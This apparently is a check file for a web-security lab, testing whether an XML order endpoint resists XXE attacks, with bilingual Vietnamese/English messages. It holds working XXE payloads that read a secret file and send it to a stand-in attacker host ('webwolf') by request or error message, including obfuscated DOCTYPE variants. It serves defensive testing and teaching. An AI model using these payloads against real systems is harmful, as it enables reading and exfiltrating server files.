import type { Client } from '../../../src/features/web-lab/core/client';
import { defineChecks, type Failure, type Trial } from '../../../src/features/web-lab/core/lab';
import { failIfOpened, failIfShown, failUnlessShown, failure } from '../../../src/features/web-lab/core/probe';
import { BEFORE_DOCTYPE, inOtherSpellings, OTHER_TYPES } from '../doctype';
import { mistakes } from './mistakes';
import { world, type Facts } from './world';

const sendXml = (client: Client, body: string, type = 'application/xml') =>
  client.send('POST', '/orders', { headers: [['Content-Type', type]], body });

/** A DTD that puts a file into the address of a request, or of a file that does not exist. */
const stealing = (path: string, address: string) =>
  `<!ENTITY % file SYSTEM "file://${path}">\n<!ENTITY % all "<!ENTITY &#x25; send SYSTEM '${address}%file;'>">\n%all;`;

const LOADING = (name: string) =>
  `<?xml version="1.0"?>\n<!DOCTYPE order [<!ENTITY % remote SYSTEM "http://webwolf/files/${name}">%remote;%send;]>\n<order/>`;

const OPENED = {
  vi: 'Khi đọc đơn này, máy chủ đã mở một tệp hoặc gọi một máy khác.',
  en: 'While it read this order, the server opened a file or called another host.',
};
const TOLD = { vi: 'Câu trả lời chứa nội dung của tệp.', en: 'The response contains the content of the file.' };

async function upload(client: Client, name: string, content: string): Promise<void> {
  await client.submit('http://webwolf/upload', { name, content });
}

async function attackWith(
  trial: Trial<Facts>,
  dtd: string | undefined,
  documents: readonly string[],
  types: readonly string[] = ['application/xml'],
): Promise<Failure | undefined> {
  const client = trial.client();
  const name = `${trial.random.integer(1000, 9999)}.dtd`;
  if (dtd !== undefined) await upload(client, name, dtd);
  for (const [type, document] of types.flatMap((one) => documents.map((document) => [one, document] as const))) {
    const sent = await sendXml(client, document.replaceAll('NAME', name), type);
    const found = failIfShown(sent, [trial.facts.secret.text], TOLD) ?? failIfOpened(sent, OPENED);
    if (found) return found;
  }
  return undefined;
}

export const checks = defineChecks<Facts>({
  world,

  goals: {
    sent: ({ events }, { secret }) =>
      events.some(
        (event) =>
          event.type === 'outgoing' && event.request.host === 'webwolf' && event.request.target.includes(secret.text),
      ),
    error: ({ request, response, events }, { secret }) =>
      request.target.startsWith('/orders') &&
      response.status >= 400 &&
      response.body.includes(secret.text) &&
      events.some((event) => event.type === 'file' && event.path === secret.path),
  },

  async attack(trial) {
    const client = trial.client();
    const { path } = trial.facts.secret;
    await upload(client, 'send.dtd', stealing(path, 'http://webwolf/landing?text='));
    await sendXml(client, LOADING('send.dtd'));
    await upload(client, 'error.dtd', stealing(path, 'file:///none/'));
    await sendXml(client, LOADING('error.dtd'));
  },

  checks: [
    {
      id: 'by-request',
      kind: 'attack',
      title: { vi: 'Tệp ra bằng một yêu cầu', en: 'A file leaves by a request' },
      run: (trial) =>
        attackWith(trial, stealing(trial.facts.secret.path, 'http://webwolf/landing?text='), [LOADING('NAME')]),
    },
    {
      id: 'by-error',
      kind: 'attack',
      title: { vi: 'Tệp ra bằng một thông báo lỗi', en: 'A file leaves by an error message' },
      run: (trial) => attackWith(trial, stealing(trial.facts.secret.path, 'file:///none/'), [LOADING('NAME')]),
    },
    {
      id: 'by-doctype',
      kind: 'attack',
      title: { vi: 'DTD nằm ngay ở DOCTYPE', en: 'The DOCTYPE itself names the DTD' },
      run: (trial) =>
        attackWith(trial, `${stealing(trial.facts.secret.path, 'http://webwolf/landing?text=')}\n%send;`, [
          '<!DOCTYPE order SYSTEM "http://webwolf/files/NAME"><order/>',
          '<!DOCTYPE order PUBLIC "x" "https://webwolf/files/NAME"><order/>',
          `<!DOCTYPE order SYSTEM "file://${trial.facts.secret.path}"><order/>`,
        ]),
    },
    {
      id: 'in-element',
      kind: 'attack',
      title: { vi: 'Thực thể trong một phần tử', en: 'An entity within an element' },
      run: (trial) =>
        attackWith(trial, undefined, [
          `<!DOCTYPE order [<!ENTITY e SYSTEM "file://${trial.facts.secret.path}">]><order><book>&e;</book></order>`,
          '<!DOCTYPE order [<!ENTITY e SYSTEM "http://webwolf/landing?x=1">]><order>&e;</order>',
        ]),
    },
    {
      id: 'other-start',
      kind: 'attack',
      title: { vi: 'Tài liệu bắt đầu bằng thứ khác', en: 'A document that begins with something else' },
      run: (trial) => {
        const document = `<!DOCTYPE order [<!ENTITY e SYSTEM "file://${trial.facts.secret.path}">]><order>&e;</order>`;
        return attackWith(
          trial,
          undefined,
          BEFORE_DOCTYPE.map((start) => start + document),
        );
      },
    },
    {
      id: 'other-spellings',
      kind: 'attack',
      title: { vi: 'DOCTYPE viết theo nhiều cách', en: 'The DOCTYPE, written in several ways' },
      run: (trial) => {
        const { path } = trial.facts.secret;
        const root = '<order>&e;</order>';
        return attackWith(trial, undefined, [
          `<!DOCTYPE x-1.b SYSTEM 'file://${path}'>${root}`,
          `<!DOCTYPE order [<!ENTITY % p "<!ENTITY e &#83;YSTEM 'fi&#108;e://${path}'>">%p;]>${root}`,
          ...inOtherSpellings(root, `<!ENTITY e SYSTEM "file://${path}">`),
        ]);
      },
    },
    {
      id: 'other-types',
      kind: 'attack',
      title: { vi: 'Đơn được gửi với kiểu khác', en: 'The order is sent with another type' },
      run: (trial) =>
        attackWith(
          trial,
          undefined,
          [`<!DOCTYPE order [<!ENTITY e SYSTEM "file://${trial.facts.secret.path}">]><order>&e;</order>`],
          OTHER_TYPES,
        ),
    },
    {
      id: 'orders',
      kind: 'legitimate',
      title: { vi: 'Đơn hợp lệ', en: 'Valid orders' },
      async run(trial) {
        const client = trial.client();
        const documents = [
          '<order><book>Số đỏ</book></order>',
          '<?xml version="1.0" encoding="UTF-8"?>\n<order school="12"><book>A &amp; B</book></order>',
          '<order><note>DOCTYPE, ENTITY, SYSTEM, PUBLIC</note></order>',
          '<!-- http://truong.example/ --><order><note>file: đơn tháng 3</note></order>',
        ];
        for (const document of documents) {
          const sent = await sendXml(client, document);
          if (sent.response.status >= 300)
            return failure(sent, 'Đơn này hợp lệ và phải được nhận.', 'This order is valid and must be accepted.');
        }
        return failUnlessShown(await client.open('/'), [`<strong>${documents.length}</strong>`], {
          vi: 'Trang phải đếm đủ các đơn đã nhận.',
          en: 'The page must count the orders that were received.',
        });
      },
    },
    {
      id: 'broken',
      kind: 'legitimate',
      title: { vi: 'Đơn hỏng', en: 'A broken order' },
      async run(trial) {
        const client = trial.client();
        const sent = await sendXml(client, '<order><book></order>');
        if (sent.response.status < 400)
          return failure(sent, 'Tài liệu hỏng phải bị từ chối.', 'A document that is not well-formed must be refused.');
        return failUnlessShown(await client.open('/'), ['<strong>0</strong>'], {
          vi: 'Tài liệu hỏng không được tính là đơn.',
          en: 'A broken document must not count as an order.',
        });
      },
    },
  ],

  mistakes,
});
